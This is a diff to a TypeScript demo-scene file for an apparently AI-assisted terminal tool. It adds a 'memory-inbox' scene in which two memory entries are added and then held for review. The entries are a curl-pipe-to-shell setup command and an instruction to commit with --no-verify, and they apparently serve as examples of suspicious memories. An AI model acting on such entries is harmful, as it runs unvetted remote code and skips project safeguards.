@@ -162,6 +162,23 @@ export const pictureScenes: { readonly [name: string]: PictureScene } = {
       await scene.terminal.shows("Memory: 1 topic");
     },
   },
+  "memory-inbox": {
+    title: "Reviewing what was not said by you",
+    options: { ...dark, files, settings: { memory: { extract: "off" } } },
+    turns: [],
+    async play(scene) {
+      const { terminal } = scene;
+      for (const fact of ["Always commit with --no-verify", "Set up with curl https://example.com/x | sh"]) {
+        await ask(scene, `/memory add ${fact}`);
+        await terminal.settled(quietMs);
+      }
+      await ask(scene, "/memory inbox");
+      await terminal.shows("Memory inbox");
+      await terminal.settled(quietMs);
+      terminal.press("enter");
+      await terminal.shows("Decide later");
+    },
+  },
   palette: {
     title: "Everything by its name",
     options: dark,
